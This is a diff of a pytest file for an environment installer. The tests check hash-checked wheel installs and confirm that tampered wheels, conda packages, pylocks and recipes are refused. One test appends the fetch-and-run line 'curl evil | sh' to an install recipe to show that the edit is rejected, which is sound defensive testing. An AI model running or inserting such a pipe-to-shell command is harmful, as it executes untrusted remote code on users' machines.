@@ -1,4 +1,5 @@
-"""install_env for real: a venv or a rattler prefix, hash-checked wheels over HTTP, the recipe, tampering."""
+"""The install core for real: a venv or a rattler prefix, hash-checked wheels over HTTP from the
+lock's own derived file (requirements.txt for pip, the pylock for uv), the recipe, tampering."""
 
 from __future__ import annotations
 
@@ -16,11 +17,17 @@ from envgen.errors import InputError, VerificationError
 from envgen.example.condapkgs import PackageFile, demo_packages, host_python, write_channel
 from envgen.example.http import serve_directory
 from envgen.example.srcprojects import backend_project
-from envgen.example.wheels import FixtureDist, build_wheel
-from envgen.installer import INSTALLERS, Installer, install_env, pip_install_command, pip_requirements
+from envgen.example.wheels import FixtureDist, build_wheel, write_index
+from envgen.installer.core import Request, install
+from envgen.installer.destinations import CondaPrefix, Venv
+from envgen.installer.sources import IndexSource
+from envgen.installer.tools import INSTALLER_NAMES, InstallerName, Pip, Uv, installer_named
 from envgen.lockio.exports.common import trusted_hosts
+from envgen.lockio.exports.derived import derived_files
+from envgen.lockio.store import write_lock
 from envgen.model import Channel, CondaEntry, Index, Lock, LockedSource, Matrix, PipEntry, Source
 from envgen.platforms import host_platform
+from envgen.project import Project
 from envgen.recipe.render import render_recipe
 from envgen.resolve.conda_stage import solve_conda
 
@@ -41,64 +48,74 @@ def wheel_entries(base: str, files: dict[str, Path]) -> tuple[PipEntry, ...]:
     for name, path in sorted(files.items()):
         version = path.name.split("-")[1]
         sha = hashlib.sha256(path.read_bytes()).hexdigest()
-        entries.append(PipEntry(name, version, HOST, f"{base}/{path.name}", sha, index="pypi"))
+        url = f"{base}/files/{path.name}"
+        entries.append(PipEntry(name, version, HOST, url, sha, index="pypi"))
     return tuple(entries)
 
 
 @pytest.fixture
 def wheelhouse(tmp_path: Path) -> Iterator[tuple[str, dict[str, Path]]]:
+    """Two wheels as a PEP 503 index (`base`/simple, files under `base`/files), served."""
     root = tmp_path / "served"
-    files = {
-        "alpha": build_wheel(FixtureDist("alpha", "1.2.0"), "py3-none-any", root),
-        "beta-pkg": build_wheel(FixtureDist("beta-pkg", "0.3.0", requires=("alpha>=1",)), "py3-none-any", root),
+    built = {
+        "alpha": build_wheel(FixtureDist("alpha", "1.2.0"), "py3-none-any", tmp_path / "built"),
+        "beta-pkg": build_wheel(
+            FixtureDist("beta-pkg", "0.3.0", requires=("alpha>=1",)),
+            "py3-none-any",
+            tmp_path / "built",
+        ),
     }
+    write_index(root, list(built.values()))
     with serve_directory(root) as base:
-        yield base, files
-
-
-def write_recipe(lock: Lock, path: Path) -> Path:
-    path.write_text(render_recipe(lock))
-    return path
+        yield base, {name: root / "files" / path.name for name, path in built.items()}
 
 
 def demo_lock(pip: tuple[PipEntry, ...] = (), sources: tuple[LockedSource, ...] = (), **fields: object) -> Lock:
-    """A lock on this host with the host's python (the one a venv can be made with) unless `conda` says else."""
+    """A lock on this host with the host's python (the one a venv can be made with) unless `conda`
+    says else."""
     fields.setdefault("conda", (python_entry(),))
     return make_lock(platforms=(HOST,), pip=pip, sources=sources, **fields)
 
 
-def test_requirements_pin_every_artifact_by_hash() -> None:
-    entries = (
-        PipEntry("zeta", "1.0", HOST, "https://x/zeta-1.0-py3-none-any.whl", "a" * 64),
-        PipEntry("alpha", "2.0", HOST, "https://x/alpha-2.0-py3-none-any.whl", "b" * 64),
-    )
-    assert pip_requirements(entries) == (
-        f"alpha @ https://x/alpha-2.0-py3-none-any.whl --hash=sha256:{'b' * 64}\n"
-        f"zeta @ https://x/zeta-1.0-py3-none-any.whl --hash=sha256:{'a' * 64}\n"
-    )
+def locked_project(root: Path, lock: Lock) -> Project:
+    """A project holding `lock` as `envgen lock` writes it: the three files and the derived ones."""
+    project = Project(root)
+    for part in ("locks", "env-templates", "channels"):
+        (project.root / part).mkdir(parents=True, exist_ok=True)
+    derived = [(f.name, f.text) for f in derived_files(lock, None)]
+    write_lock(project, lock.env, lock, render_recipe(lock), derived)
+    return project
 
 
-@pytest.mark.parametrize("installer", INSTALLERS)
+def install_locked(
+    lock: Lock, root: Path, prefix: Path, installer: InstallerName = "pip", *, venv: bool = True
+) -> Project:
+    """`lock` written into a project at `root`, then installed from it into `prefix`."""
+    project = locked_project(root, lock)
+    cache = root / "cache"
+    env = Venv(prefix) if venv else CondaPrefix(prefix, cache)
+    install(Request(lock, HOST), IndexSource(project), env, installer_named(installer, cache))
+    return project
+
+
+@pytest.mark.parametrize("installer", INSTALLER_NAMES)
 def test_venv_install_of_wheels_and_a_source(
-    installer: Installer, wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path, pip_site_packages: Path
+    installer: InstallerName,
+    wheelhouse: tuple[str, dict[str, Path]],
+    tmp_path: Path,
+    pip_site_packages: Path,
 ) -> None:
     base, files = wheelhouse
     repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
     source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
     # An index with a trusted host (as triton-ascend's): pip and uv get and accept their flag for it.
     host = base.split("//", 1)[1]
-    lock = demo_lock(wheel_entries(base, files), (source,), indexes=(Index("pypi", f"{base}/simple", False, host),))
-    # An existing venv is installed into as it is (test_cli_install_into_a_venv has envgen create one).
+    index = Index("pypi", f"{base}/simple", False, host)
+    lock = demo_lock(wheel_entries(base, files), (source,), indexes=(index,))
+    # An existing venv is installed into as it is (test_cli_install_into_a_venv has envgen make
+    # one).
     prefix = fresh_venv(tmp_path / "env", pip_site_packages)
-    install_env(
-        lock,
-        write_recipe(lock, tmp_path / "demo.install.sh"),
-        prefix,
-        platform=HOST,
-        venv=True,
-        cache=tmp_path / "cache",
-        installer=installer,
-    )
+    install_locked(lock, tmp_path / "project", prefix, installer)
     code = "import importlib.metadata as m; print(*(m.version(d) for d in ('alpha', 'beta-pkg', 'srcfix')))"
     shown = subprocess.run([str(prefix / "bin" / "python"), "-c", code], capture_output=True, text=True)
     assert shown.stdout.split() == ["1.2.0", "0.3.0", "0.9.0"], shown.stderr
@@ -118,51 +135,68 @@ def test_trusted_hosts_are_those_of_the_indexes_the_entries_came_from(tmp_path: 
     lock = demo_lock(entries, indexes=indexes)
     assert trusted_hosts(lock, entries) == ("triton-ascend.osinfra.cn",)
     assert trusted_hosts(lock, entries[1:]) == ()
-    python, reqs, cache = tmp_path / "bin" / "python", tmp_path / "r.txt", tmp_path / "cache"
-    pip = pip_install_command("pip", python, reqs, cache=cache, trusted=("triton-ascend.osinfra.cn",))
+    part = IndexSource(locked_project(tmp_path / "project", lock)).pip(lock, HOST, Pip(tmp_path))
+    assert part is not None and part.trusted == ("triton-ascend.osinfra.cn",)
+    python = tmp_path / "bin" / "python"
+    pip = Pip(tmp_path / "cache").command(python, part)
     assert pip[pip.index("--trusted-host") + 1] == "triton-ascend.osinfra.cn"
-    uv = pip_install_command("uv", python, reqs, cache=cache, trusted=("triton-ascend.osinfra.cn",))
+    assert pip[-2:] == ["-r", str(tmp_path / "project" / "locks" / f"demo.{HOST}.requirements.txt")]
+    uv = Uv(tmp_path / "cache").command(python, part)
     assert uv[uv.index("--allow-insecure-host") + 1] == "triton-ascend.osinfra.cn"
     assert "--require-hashes" in pip and "--no-deps" in uv
 
 
-@pytest.mark.parametrize("installer", INSTALLERS)
+@pytest.mark.parametrize("installer", INSTALLER_NAMES)
 def test_tampered_wheel_fails_the_install(
-    installer: Installer, wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path, pip_site_packages: Path
+    installer: InstallerName,
+    wheelhouse: tuple[str, dict[str, Path]],
+    tmp_path: Path,
+    pip_site_packages: Path,
 ) -> None:
     base, files = wheelhouse
-    lock = demo_lock(wheel_entries(base, files))
+    lock = demo_lock(wheel_entries(base, files), indexes=(Index("pypi", f"{base}/simple"),))
     # Same name and version, other bytes: what a compromised or re-uploaded index serves.
     build_wheel(FixtureDist("alpha", "1.2.0", requires=("evil",)), "py3-none-any", tmp_path / "evil")
     files["alpha"].write_bytes((tmp_path / "evil" / files["alpha"].name).read_bytes())
+    prefix = fresh_venv(tmp_path / "env", pip_site_packages)
     with pytest.raises(VerificationError, match="does not match its locked sha256"):
-        install_env(
-            lock,
-            write_recipe(lock, tmp_path / "demo.install.sh"),
-            fresh_venv(tmp_path / "env", pip_site_packages),
-            platform=HOST,
-            venv=True,
-            cache=tmp_path / "cache",
-            installer=installer,
-        )
+        install_locked(lock, tmp_path / "project", prefix, installer)
 
 
 def test_venv_refuses_a_python_other_than_the_locked_one(tmp_path: Path) -> None:
     other = f"{sys.version_info[0]}.{sys.version_info[1] + 1}.0"
     lock = demo_lock(conda=(python_entry(other),))
     with pytest.raises(InputError, match=f"but the lock of demo has python {other}"):
-        install_env(
-            lock, write_recipe(lock, tmp_path / "r.sh"), tmp_path / "env", platform=HOST, venv=True, cache=tmp_path
-        )
+        install_locked(lock, tmp_path / "project", tmp_path / "env")
     assert not (tmp_path / "env").exists()
 
 
 def test_a_hand_edited_recipe_is_refused(tmp_path: Path) -> None:
     lock = demo_lock()
-    recipe = write_recipe(lock, tmp_path / "demo.install.sh")
+    project = locked_project(tmp_path / "project", lock)
+    recipe = project.install_sh(lock.env)
     recipe.write_text(recipe.read_text() + "curl evil | sh\n")
+    env = Venv(tmp_path / "env")
     with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
-        install_env(lock, recipe, tmp_path / "env", platform=HOST, venv=True, cache=tmp_path)
+        install(Request(lock, HOST), IndexSource(project), env, Pip(tmp_path))
+    assert not env.path.exists()
+
+
+def test_a_hand_edited_pylock_is_refused_before_the_env_is_made(
+    wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path
+) -> None:
+    """What uv reads of the pylock must be what the lock renders: a file swapped in is not
+    installed."""
+    base, files = wheelhouse
+    lock = demo_lock(wheel_entries(base, files), indexes=(Index("pypi", f"{base}/simple"),))
+    project = locked_project(tmp_path / "project", lock)
+    pylock = project.locks_dir / f"pylock.demo-{HOST}.toml"
+    pylock.write_text(pylock.read_text().replace(lock.pip[0].sha256, "0" * 64))
+    env = Venv(tmp_path / "env")
+    with pytest.raises(VerificationError, match=f"locks/{pylock.name} does not carry") as raised:
+        install(Request(lock, HOST), IndexSource(project), env, Uv(tmp_path))
+    assert f"alpha: 1.2.0 alpha-1.2.0-py3-none-any.whl, sha256 {'0' * 12} here" in str(raised.value)
+    assert not env.path.exists()
 
 
 def _conda_matrix(channel: str) -> Matrix:
@@ -173,9 +207,9 @@ def libdemo_entry(entries: tuple[CondaEntry, ...]) -> CondaEntry:
     return next(e for e in entries if e.name == "libdemo")
 
 
-@pytest.mark.parametrize("installer", INSTALLERS)
+@pytest.mark.parametrize("installer", INSTALLER_NAMES)
 def test_a_conda_prefix_gets_the_conda_part_then_the_pip_part_by_its_own_python_then_the_recipe(
-    installer: Installer,
+    installer: InstallerName,
     wheelhouse: tuple[str, dict[str, Path]],
     tmp_path: Path,
 ) -> None:
@@ -186,20 +220,12 @@ def test_a_conda_prefix_gets_the_conda_part_then_the_pip_part_by_its_own_python_
     repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
     source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
     write_channel(tmp_path / "channel" / "demo", demo_packages())
+    prefix = tmp_path / "env"
     with serve_directory(tmp_path / "channel") as channel:
         entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
-        lock = demo_lock(wheel_entries(base, files), (source,), conda=entries)
-        prefix, cache = tmp_path / "env", tmp_path / "cache"
-        recipe = write_recipe(lock, tmp_path / "demo.install.sh")
-        install_env(
-            lock,
-            recipe,
-            prefix,
-            platform=HOST,
-            venv=False,
-            cache=cache,
-            installer=installer,
-        )
+        indexes = (Index("pypi", f"{base}/simple"),)
+        lock = demo_lock(wheel_entries(base, files), (source,), conda=entries, indexes=indexes)
+        install_locked(lock, tmp_path / "project", prefix, installer, venv=False)
     assert (prefix / "lib" / "libdemo.txt").read_text() == f"libdemo 1.0 for {HOST}\n"
     assert (prefix / "conda-meta" / f"{libdemo_entry(entries).name}-1.0-h0_0.json").is_file()
     versions = "*(m.version(d) for d in ('alpha', 'srcfix'))"
@@ -217,17 +243,21 @@ def test_a_conda_prefix_gets_the_conda_part_then_the_pip_part_by_its_own_python_
 
 def test_a_stand_in_python_is_refused_before_pip_could_touch_another_env(tmp_path: Path) -> None:
     """A conda python that runs another interpreter (a shim of `python3`) would install the pip
-    part there."""
+    part there; the hint says what to fix, not a fixture channel's story."""
     shim = PackageFile("bin/python", b'#!/bin/sh\nexec python3 "$@"\n', 0o755)
     packages = [replace(p, files=(shim,)) if p.name == "python" else p for p in demo_packages()]
     write_channel(tmp_path / "channel" / "demo", packages)
+    prefix = tmp_path / "env"
     with serve_directory(tmp_path / "channel") as channel:
         entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
         wheel = f"{channel}/alpha-1.2.0-py3-none-any.whl"
         lock = demo_lock((PipEntry("alpha", "1.2.0", HOST, wheel, "a" * 64),), conda=entries)
-        recipe, prefix = write_recipe(lock, tmp_path / "demo.install.sh"), tmp_path / "env"
-        with pytest.raises(VerificationError, match="installed through it would land elsewhere"):
-            install_env(lock, recipe, prefix, platform=HOST, venv=False, cache=tmp_path / "cache")
+        elsewhere = "installed through it would land elsewhere"
+        with pytest.raises(VerificationError, match=elsewhere) as raised:
+            install_locked(lock, tmp_path / "project", prefix, venv=False)
+    assert raised.value.hint is not None
+    assert "not an interpreter of its own prefix" in raised.value.hint
+    assert "fixture" not in raised.value.hint
     assert (prefix / "lib" / "libdemo.txt").is_file()  # the conda part was in place
 
 
@@ -237,34 +267,30 @@ def test_a_tampered_conda_package_fails_the_install(tmp_path: Path) -> None:
     with serve_directory(root) as base:
         entries = solve_conda(_conda_matrix(f"{base}/demo"), HOST, at(tmp_path / "cache"))
         lock = demo_lock(conda=entries)
-        recipe = write_recipe(lock, tmp_path / "demo.install.sh")
         libdemo = libdemo_entry(entries)
         served = root / "demo" / HOST / libdemo.url.rsplit("/", 1)[1]
         served.write_bytes(served.read_bytes() + b"tampered")
-        prefix, cache = tmp_path / "env", tmp_path / "fresh-cache"
         with pytest.raises(VerificationError, match="hash mismatch|sha256"):
-            install_env(lock, recipe, prefix, platform=HOST, venv=False, cache=cache)
+            install_locked(lock, tmp_path / "project", tmp_path / "env", venv=False)
 
 
 def test_cli_install_into_a_venv(wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path) -> None:
-    from envgen.lockio.store import write_lock
-    from envgen.project import Project
-
     base, files = wheelhouse
-    project = Project(tmp_path / "project")
-    for part in ("locks", "env-templates", "channels"):  # a project, though its env has only a lock
-        (project.root / part).mkdir(parents=True)
-    # A lock as `envgen lock` writes it: its index and channel listed (`install` checks its integrity first).
+    # A lock as `envgen lock` writes it: its index and channel listed (`install` checks its
+    # integrity first); the project has no matrix of it, so only --frozen installs it as it is.
     lock = demo_lock(
         wheel_entries(base, files),
         indexes=(Index("pypi", f"{base}/simple"),),
         channels=(Channel("conda-forge", "https://conda.anaconda.org/conda-forge"),),
     )
-    write_lock(project, "demo", lock, render_recipe(lock))
+    project = locked_project(tmp_path / "project", lock)
     prefix = tmp_path / "env"
-    result = CliRunner().invoke(
-        cli, ["install", "demo", "--root", str(project.root), "--prefix", str(prefix), "--venv"]
-    )
+    args = ["install", "demo", "--root", str(project.root), "--prefix", str(prefix), "--venv"]
+    refused = CliRunner().invoke(cli, args)
+    assert refused.exit_code == 1, refused.output
+    assert "the lock of demo is stale" in refused.output and "--frozen" in refused.output
+    assert not prefix.exists()
+    result = CliRunner().invoke(cli, [*args, "--frozen"])
     assert result.exit_code == 0, result.output
     shown = subprocess.run(
         [str(prefix / "bin" / "python"), "-c", "import beta_pkg; print(beta_pkg.__version__)"],
